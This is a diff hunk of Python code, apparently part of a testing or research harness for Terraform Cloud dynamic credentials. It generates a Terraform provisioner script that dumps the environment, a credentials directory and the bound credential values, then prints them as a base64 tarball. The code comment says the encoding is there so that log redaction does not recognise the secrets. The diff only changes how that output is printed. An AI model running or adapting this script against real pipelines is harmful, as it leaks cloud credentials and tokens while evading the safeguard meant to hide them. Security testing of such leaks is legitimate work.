@@ -93,7 +93,7 @@ def backed(kind, tag="", **more):
 
 def looking(*variables):
     """A provisioner prints the environment, the values of the variables, and the files, so that redaction does not recognize them."""
-    script = 'mkdir /tmp/seen; env -0 >/tmp/seen/env; cp -a "$HOME/../credentials" /tmp/seen/; printf %s "$VALUES" >/tmp/seen/values; printf BEGIN; tar -C /tmp/seen -cz . | base64 -w 0; echo\n'
+    script = 'mkdir /tmp/seen; env -0 >/tmp/seen/env; cp -a "$HOME/../credentials" /tmp/seen/; printf %s "$VALUES" >/tmp/seen/values; echo "BEGIN$(tar -C /tmp/seen -cz . | base64 -w 0)"\n'
     values = "".join(f'{name} = var.tfc_{name}_dynamic_credentials\n' for name in variables)
     return {"look.sh": script, "main.tf": "".join(f'variable "tfc_{name}_dynamic_credentials" {{}}\n' for name in variables) + f"""
 resource "terraform_data" "look" {{
